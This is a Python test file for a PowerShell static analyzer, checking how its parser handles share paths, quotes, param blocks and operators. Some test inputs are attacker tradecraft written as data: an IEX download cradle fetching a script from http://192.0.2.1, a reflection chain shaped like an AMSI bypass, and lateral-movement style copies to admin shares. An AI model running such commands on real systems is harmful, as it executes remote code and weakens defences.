"""Focused cases for what the blind4g corpus (a second balanced mix: admin, tradecraft, PowerShell 7,
broken, clean) found: one test per fixed miss or false finding, each with a near miss that must stay."""

from __future__ import annotations

import pytest

from psscript_graphql.analyzer.grammar_gaps import parser_input
from psscript_graphql.analyzer.parse import parse_script
from tests.unit.analyzer.corpus_cases import analyze, lines_of


@pytest.mark.parametrize("line", [
    "Copy-Item \\\\fs02\\it$\\agent.exe C:\\Windows\\Temp\\svc\\agent.exe",
    "Copy-Item \\\\fs02\\c$/tools/a.exe C:\\x",
    "net use Z: \\\\fs02\\admin$ /persistent:no",
    "robocopy C:\\a \\\\srv\\d$\\b /MIR; Get-Item \\\\srv\\e$",
    "Get-ChildItem \\\\srv\\admin$ | Select-Object -First 1",
    "dir \\\\fs02\\admin$",  # the last byte of the script
    "Get-Item \\\\srv\\c$, \\\\srv\\d$",
    "net share data$=C:\\data /grant:everyone,full",
])
def test_a_dollar_that_starts_no_variable_is_a_character_of_a_bare_word(line: str) -> None:
    result = analyze(line)
    assert lines_of(result, "PSParseError") == []
    assert len(parser_input(line.encode())) == len(line.encode())
    assert parser_input(line.encode()).count(b"$") < line.count("$")


def test_such_a_word_is_one_constant_argument_and_no_variable() -> None:
    tree = parse_script("Copy-Item \\\\fs02\\it$\\agent.exe C:\\x\n")
    (call,) = tree.commands()
    assert [argument.value for argument in call.arguments] == ["\\\\fs02\\it$\\agent.exe", "C:\\x"]
    assert list(tree.variables()) == []


@pytest.mark.parametrize("line", [
    "Get-Item \\\\srv\\$share\\a.txt",  # `$share` is a variable
    "Get-Item ${env:TEMP}\\a; $p = $$; Write-Output \"$($x)\"",
])
def test_a_dollar_that_starts_a_variable_is_left_alone(line: str) -> None:
    assert parser_input(line.encode()) == line.encode()
    assert lines_of(analyze(line), "PSParseError") == []


def test_the_variable_in_a_share_path_is_still_read() -> None:
    tree = parse_script("Get-Item \\\\srv\\$share\\a.txt\n")
    assert [variable.name for variable in tree.variables()] == ["share"]


def test_a_lone_dollar_in_expression_mode_is_still_a_parse_error() -> None:
    assert parser_input(b"$x = $\n") == b"$x = $\n"
    assert lines_of(analyze("$x = $"), "PSParseError") == [1]


def test_a_mandatory_default_in_the_scripts_own_param_block_after_an_optional_one() -> None:
    result = analyze("""
        [CmdletBinding()]
        param(
            [int]$StaleDays = 30,
            [Parameter(Mandatory)] [string]$TenantId = 'contoso.onmicrosoft.com',
            [Parameter(Mandatory)] [string]$ClientId,
            [string]$Region = 'eu'
        )
        $StaleDays, $TenantId, $ClientId, $Region
    """)
    assert lines_of(result, "PSAvoidDefaultValueForMandatoryParameter") == [4]


def test_inline_function_parameters_are_no_param_block() -> None:
    result = analyze("""
        function Get-Thing([Parameter(Mandatory)][string]$Name = 'x') { $Name }
    """)
    assert lines_of(result, "PSAvoidDefaultValueForMandatoryParameter") == []


@pytest.mark.parametrize("line", [
    "git log --format=\"%h %s\" -n 5",
    "git commit -m \"msg\" --author=\"A <a@b.c>\"",
    "tool -opt='a b' -x",
    "Start-Sleep 5 &",
    "$job = Get-Process -Name pwsh &",
    "if ($a) { Start-Sleep 5 & }; Get-Date &  # in the background",
])
def test_quoted_option_values_and_the_background_operator_are_valid_syntax(line: str) -> None:
    assert lines_of(analyze(line), "PSParseError") == []
    assert len(parser_input(line.encode())) == len(line.encode())


def test_an_option_with_a_quoted_value_is_one_argument_of_the_command() -> None:
    tree = parse_script("git log --format=\"%h %s\" -n 5 | Out-File log.txt\n")
    git = next(call for call in tree.commands() if call.name == "git")
    assert [argument.value for argument in git.arguments][:2] == ["log", "--format=\"%h %s\""]


@pytest.mark.parametrize("line", [
    "$ok = $a -eq \"x\" -and $b -ne 'y'",
    "Get-Thing && Write-Output 'ok'",
    "& $tool -x; & \"C:\\a b\\t.exe\" /q",
    "Get-Item -Path \"a b\"",
])
def test_operators_parameters_and_call_operators_are_left_alone(line: str) -> None:
    assert parser_input(line.encode()) == line.encode()
    assert lines_of(analyze(line), "PSParseError") == []


ISE_SNIPPET = """\
function Get-Widget
{
    [CmdletBinding()]
    [OutputType([int])]
    Param
    (
        # Param1 help description
        [Parameter(Mandatory=$true,
                   Position=0)]
        $Name,

        [int]
        $Count = 1
    )
    Process
    {
        $Name
    }
}
"""


def test_param_with_its_parenthesis_on_the_next_line_after_attributes_is_a_param_block() -> None:
    result = analyze(ISE_SNIPPET)
    assert lines_of(result, "PSParseError") == []
    assert lines_of(result, "PSReviewUnusedParameter") == [13]  # $Count, at the line PowerShell has it
    tree = parse_script(ISE_SNIPPET)
    assert [parameter.name for parameter in tree.parameters()] == ["Name", "Count"]
    assert len(parser_input(ISE_SNIPPET.encode())) == len(ISE_SNIPPET.encode())
    assert parser_input(ISE_SNIPPET.encode()).count(b"\n") == ISE_SNIPPET.count("\n")


def test_a_script_param_block_written_the_same_way() -> None:
    tree = parse_script("[CmdletBinding()]\r\nParam\r\n(\r\n    [string]$Path\r\n)\r\n$Path\r\n")
    assert [parameter.name for parameter in tree.script_parameters()] == ["Path"]


def test_a_comment_or_an_argument_ending_in_param_moves_nothing() -> None:
    for text in ("# set the Param\n($a, $b) = 1, 2\n", "Write-Output Param\n(1 + 2)\n", "$param\n(1)\n"):
        assert parser_input(text.encode()) == text.encode()


@pytest.mark.parametrize("line", [
    "New-Object -TypeName X -ArgumentList \"help\",$ast.Extent,$PSCmdlet.MyInvocation.InvocationName,Warning,$null",
    "Write-Output $a.B, Warning",
    "Write-Output (Get-Date).Year, Warning",
])
def test_a_bare_word_after_a_member_in_a_commands_list_is_a_string(line: str) -> None:
    assert lines_of(analyze(line), "PSParseError") == []


def test_a_bare_word_after_a_member_in_expression_mode_is_still_a_parse_error() -> None:
    assert lines_of(analyze("$x = $a.B, Warning"), "PSParseError") == [1]


@pytest.mark.parametrize("line", [
    "$a = $b -eq \u201cx\u201d",
    "$Global:name = \"globalVar\u201c",  # PowerShell closes a string with any double quote
    "Write-Host \u2018Hello\u2019; $c = \u2018a\u2019 + \u2018b\u2019",
    "$a = (Resolve-Path\u00a0\"x\").Path",  # a no-break space is whitespace
])
def test_typographic_quotes_and_no_break_spaces_are_what_powershell_takes_them_for(line: str) -> None:
    assert lines_of(analyze(line), "PSParseError") == []
    assert len(parser_input(line.encode())) == len(line.encode())


def test_a_typographically_quoted_argument_is_a_string_with_its_text() -> None:
    tree = parse_script("Get-Item -Path \u201cC:\\a b\u201d; Write-Host \u2018Hi\u2019\n")
    values = [[(argument.kind.value, argument.value) for argument in call.arguments] for call in tree.commands()]
    assert values == [[("parameter", "Path"), ("string", "C:\\a b")], [("string", "Hi")]]


def test_a_typographic_quote_inside_a_single_quoted_string_changes_nothing_around_it() -> None:
    result = analyze("$q = 'He said \u201chi\u201d'; Write-Output $q")
    assert lines_of(result, "PSParseError") == []


def test_such_a_list_on_a_commands_continuation_line_is_read_in_command_mode() -> None:
    result = analyze("""
        $dr = New-Object `
            -Typename 'X.DiagnosticRecord' `
            -ArgumentList 'This is help',$ast.Extent,$PSCmdlet.MyInvocation.InvocationName,Warning,$null
        $dr
    """)
    assert lines_of(result, "PSParseError") == []


def test_a_line_after_one_that_does_not_end_in_a_backtick_is_not_continued() -> None:
    result = analyze("""
        $x = 1 # `
        $y = $a.B, Warning
    """)
    assert lines_of(result, "PSParseError") == [2]


def test_a_markdown_code_fence_in_an_expandable_here_string_ends_with_the_here_string() -> None:
    result = analyze('''
        function Add-RuleDoc($Rule)
        {
            $template = @"
        ### Wrong:
        ``````PowerShell

        ``````
        "@
            $template -f $Rule.Name
        }
    ''')
    assert lines_of(result, "PSParseError") == []
    assert parser_input(b"a```\n") == b"a__`\n"  # a pair is a literal backtick, the third still continues the line


def test_a_comment_between_switch_clauses_is_no_clause() -> None:
    result = analyze("""
        switch ($x) {
            'a' { 1 }
            # a comment before the only default
            default { 2 }
        }
        switch ($y) {
            default { 1 }
            # a second default is still refused
            default { 2 }
        }
    """)
    assert lines_of(result, "PSParseError") == [9]


@pytest.mark.parametrize("line", [
    "$AllTokens = Enum-AllTokens",
    "function Enum-Shares { param($Server) $Server }; Enum-Shares -Server dc01",
    "Get-Item x | Class-Report; Param-Check",
])
def test_a_command_named_after_a_keyword_and_a_dash_is_a_command(line: str) -> None:
    result = analyze(line)
    assert lines_of(result, "PSParseError") == []
    assert {call.name for call in parse_script(line + "\n").commands()} & {"Enum-AllTokens", "Enum-Shares", "Class-Report"}


def test_class_enum_and_param_keywords_are_left_alone() -> None:
    text = "param([string]$a)\nclass Foo { [int]$A }\nenum Color { Red }\n$x = $class-1\n"
    assert parser_input(text.encode()) == text.encode()
    assert lines_of(analyze(text), "PSParseError") == []


@pytest.mark.parametrize("line", [
    "Remove-Module [P]ester -ErrorAction SilentlyContinue",
    "Get-ChildItem [a-z]*.log; Get-ChildItem -Path [a-c]file.txt",
    "Get-Process -Name [n]otepad -ErrorAction Ignore",
])
def test_a_wildcard_argument_starting_with_a_character_class_is_a_bare_word(line: str) -> None:
    assert lines_of(analyze(line), "PSParseError") == []


def test_casts_type_members_and_attributes_are_no_wildcards() -> None:
    text = "$a = [char]65 + [int]$b; $t = [Ref].Assembly; [IO.File]::Exists('x'); function f { [Alias('g')] param() }\n"
    assert parser_input(text.encode()) == text.encode()
    assert {literal.name for literal in parse_script(text).type_literals()} >= {"char", "int", "Ref", "IO.File"}


def test_a_comment_between_catch_clauses_is_no_catch_all_clause() -> None:
    result = analyze("""
        try { Invoke-WebRequest -Uri $u }
        catch [Net.WebException] { 2 }#End Catch Web Exception
        catch [System.Exception] { 3 }
        try { 1 }
        catch { 2 } # the catch-all before a typed one is still refused
        catch [System.Exception] { 3 }
    """)
    assert lines_of(result, "PSParseError") == [5]


@pytest.mark.parametrize("line", [
    "Write-Output (Get-Date).AddDays(-30).ToString('yyyy-MM-dd')",
    "Write-Host $name.Trim().ToUpper(); Write-Output $x.Trim().Length -NoEnumerate",
    "$c | Add-Member -Name lm -Value ([BitConverter]::ToString($h)).Replace('-','').ToLower()",
    "$y = Get-Item $a.Trim().ToLower()",
])
def test_members_chained_after_a_method_call_in_a_command_argument_are_one_argument(line: str) -> None:
    result = analyze(line)
    assert lines_of(result, "PSParseError") == []
    assert lines_of(result, "PSAvoidUsingPositionalParameters") == []


def test_expression_mode_chains_and_a_command_glued_to_parentheses_are_left_alone() -> None:
    for text in ("$y = $x.Trim().Length", "Write-Output ($x.Trim().Length)",
                 "IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
                 "[Ref].Assembly.GetType('A').GetField('b').SetValue($null, $true)",
                 "$entry = @{\n    time = (Get-Date).ToUniversalTime().ToString('o')\n}"):
        assert parser_input(text.encode()) == text.encode(), text


def test_three_positional_arguments_around_a_chain_are_still_three() -> None:
    result = analyze("Join-Path $root.Trim().ToLower() logs app.log")
    assert lines_of(result, "PSAvoidUsingPositionalParameters") == [1]


def test_a_commands_list_going_on_after_a_trailing_comma_takes_bare_words() -> None:
    result = analyze("""
        Get-Process |
            Select-Object -Property @{ Label = 'Proc'; Expression = { $_.Name } },
            @{ Label = 'Id'; Expression = { $_.Id } }, *
        Write-Host 'next line is analysed'
    """)
    assert lines_of(result, "PSParseError") == []
    assert lines_of(result, "PSAvoidUsingWriteHost") == [4]


@pytest.mark.parametrize("line", [
    "netsh wlan set hostednetwork mode=allow ssid=`\"$ssidname`\" key=x",
    "Write-Output \"say `\"hi`\" now\"; & cmd.exe /c \"echo `\"$p`\"\"",
])
def test_an_escaped_double_quote_in_a_bare_word_or_a_string_is_a_character(line: str) -> None:
    assert lines_of(analyze(line), "PSParseError") == []
    assert len(parser_input(line.encode())) == len(line.encode())


def test_a_variable_before_an_escaped_quote_keeps_its_name() -> None:
    result = analyze("""
        $payload = "$env:APPDATA\\x.ps1"
        $cmd = "powershell.exe -f `"$payload`""
        netsh wlan set hostednetwork ssid=`"$ssid`" key=x
        Write-Output $cmd
    """)
    assert lines_of(result, "PSUseDeclaredVarsMoreThanAssignments") == []
    assert {variable.name for variable in parse_script("netsh ssid=`\"$ssid`\" key=x\n").variables()} == {"ssid"}
